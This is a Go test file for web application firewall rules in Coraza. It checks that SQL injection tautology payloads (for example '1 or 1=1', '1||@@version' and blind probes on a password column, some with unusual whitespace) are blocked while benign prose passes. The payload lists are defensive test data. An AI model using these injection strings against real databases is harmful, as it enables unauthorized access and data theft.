// refuses a number OR-ed with || and MySQL's other true literals (a
// sixth fresh-eyes attack's B10), and not the near misses.
func TestNumericOrRule(t *testing.T) {
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRxPreFilter Off\nSecRule ARGS \"@rx " +
		numericOrRule + "\" \"id:210154,phase:2,block,t:none,t:urlDecodeUni\""))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"1||1", "1 || '1'", "7;id=1||1", "1||x'31'", "1||X'31'", "1||b'1'", "1||0b1", "1||@@version", "1||.1", "1e0||1",
		"'1'||'1'", "0x31||1", "x'31'||1", "1\u00a0||\u00a01", "1\xa0||\xa01", "1\x0b||\x0b1", "1\n||\n1",
		// a seventh fresh-eyes attack's BROKE 4
		"1||n'1'", "1||N'1'", "1.||1", "1||1."} {
		if ids := execMatches(t, waf, v); len(ids) != 1 {
			t.Errorf("%q: rules %v, want 210154", v, ids)
		}
	}
	for _, v := range []string{"Q1||Q2", "x || y", "a||b||c", "1||x", "1||@home", "'a'||'b'", "v1.2||v1.3", "1 | 1", "1||n", "1||no"} {
		if ids := execMatches(t, waf, v); len(ids) != 0 {
			t.Errorf("%q: rules %v", v, ids)
		}
	}
}

// numericTautologyAttacks are rule 210155's: a fifth fresh-eyes attack's
// F18 (numeric tautologies) and F19's blind probes.
var numericTautologyAttacks = []string{"1 or true", "7 or 1", "1 or 2", "7 or 7", "1 or id=id", "1 OR name=name", "0x31 or 1", "1 || true",
	"1 or 2>1", "1 and 0", "1 and 1", "1 and false", "1 and 1=1", "1 and password glob 'a*'", "1 and password like 'a%'", "1 xor 1",
	"1 && 1", "1 or not 0", "1 or 1 -- ", "1 or 1#", "1 or 1;", "7;id=1 or true", "1 or 'a'='a'", "1 or x is not null", "1 or id in (1,2)",
	"-1 or 1=1", "1 AND TRUE",
	// MySQL's other true literals (a sixth fresh-eyes attack's B10)
	"1 or x'31'", "1 OR X'31'", "1 or b'1'", "1 or 0b1", "1 or @@version", "1 or .1", "1e0 or 1", "'1' or '1'", "\"1\" or 1",
	"1\xa0or\xa0true", "1\u00a0or\u00a0true", "1\u00a0or\u00a01=1", "1 or x'31'=x'31'", "0b1 and 1", "x'31' or 1",
	// other white space (B10's addendum)
	"1\x0bor\x0btrue", "1\x0cor\x0ctrue", "1\ror\rtrue", "1\nor\ntrue", "1\x0bor\x0b1", "1\x0band\x0b0", "1\x0b||\x0btrue",
	// a seventh fresh-eyes attack's BROKE 4
	"1 or N'1'", "1 or n'1'", "1||n'1'", "1 or 1.", "1 or 1.e0", "1. or 1", "1 or n'1'='1'"}

// numericTautologyBenign is prose near rule 210155's attacks.
var numericTautologyBenign = []string{"1 or 2 days", "page 1 or 2", "3 and 4 bedrooms", "1 or more", "1 or 2 is fine", "2 or 3 people",
	"1 and only", "5 and up", "1 or 2 of them", "10 or so", "1; or 2", "x;y=it's 1 or the other", "1 and 2 and 3 more", "Rooms: 3 and 4",
	"1 or 2 or 3 times", "1 or 2, maybe 3", "1 && done", "4 or fewer", "100 or less", "1 or two", "1 and a half", "2 or 3 weeks; or 4",
	// near B10
	"'yes' or 'no'", "'A' or 'B'", "1 or b", "1e0 or more", "'1' or more", ".1 or .2 mm", "version 1 or @home", "1 or @@ mentions",
	"x'31' is hex", "1\u00a0or\u00a02 days", "3 and x'", "'1' or '2' stars each",
	// near BROKE 4
	"1. or 2. days", "1 or n'est-ce pas", "1 or N'Djamena trip", "1 or 1.5 days"}

// TestNumericTautologyOnProse measures rule 210155's expression (as
// Coraza compiles it, and through Coraza with its @rx prefilter on): every
// attack refused, the near misses not, and
// random prose of numbers, or/and and words, none refused but the
// documented price: a value (or a ';' part, a line) that is only a
// number, or/and and a number, true, or a word compared ("5 and a = b").
func TestNumericTautologyOnProse(t *testing.T) {
	tableOnly(t)
	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(numericTautologyRule, `\"`, `"`))
	for _, v := range numericTautologyAttacks {
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range numericTautologyBenign {
		if rx.MatchString(v) {
			t.Errorf("%q: refused", v)
		}
	}
	// through Coraza with its @rx prefilter on, as the waf loads the rule
	// (the prefilter made an alternation miss in 210181's first form)
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRxPreFilter On\nSecRule ARGS \"@rx " +
		numericTautologyRule + "\" \"id:210155,phase:2,block,t:none,t:urlDecodeUni\""))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range numericTautologyAttacks {
		if ids := execMatches(t, waf, v); len(ids) != 1 {
			t.Errorf("%q: rules %v through Coraza with the prefilter, want 210155", v, ids)
		}
	}
	for _, v := range numericTautologyBenign {
		if ids := execMatches(t, waf, v); len(ids) != 0 {
			t.Errorf("%q: rules %v through Coraza with the prefilter", v, ids)
		}
	}
	rng := rand.New(rand.NewPCG(7, 8))
	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
	words := []string{"1", "2", "3", "10", "0.5", "or", "and", "or", "and", "more", "less", "days", "people", "page", "is", "fine", "the", "a",
		"true", "story", "not", "sure", "of", "them", "id", "name", "=", "like", "null", "in", "(see", "below)", "rooms", "&&", "||", "5", "x"}
	seps := []string{" ", " ", " ", " ", " ", ", ", "; ", "\n", " - "}
	refused, price := 0, 0
	n := randomSamples
	for range n {
		var b strings.Builder
		for i, k := 0, 3+rng.IntN(10); i < k; i++ {
			if i > 0 {
				b.WriteString(pick(seps))
			}
			b.WriteString(pick(words))
		}
		// prose ends in a word or punctuation, not a condition
		b.WriteString(pick([]string{".", " ok", " times", "!"}))
		if v := b.String(); rx.MatchString(v) {
			m := rx.FindString(v)
			// the attack's own shape after a ';' or at a line's start:
			// "...; 1 or 2; ...", "3 and in = 1." (a number may end in
			// its dot since BROKE 4: 1 or 1.)
			if regexp.MustCompile(`(?i)^[;\n]?\s*[-+]?[\d.]+\s*(?:or|and|xor|\|\||&&)\s*(?:not\s+)?(?:[-+]?[\d.]+|true|null|\w+\s*=\s*\w+\.?)\s*(?:=\s*\S+)?\s*[;)]?$`).MatchString(m) {
				price++
				continue
			}
			refused++
			if refused <= 20 {
				t.Errorf("random prose %q: refused (%q)", v, m)
			}
		}
	}
	t.Logf("random prose: %d of %d refused, and %d with a part that is only a number, or/and and a number, true or a comparison (the price)", refused, n, price)
}
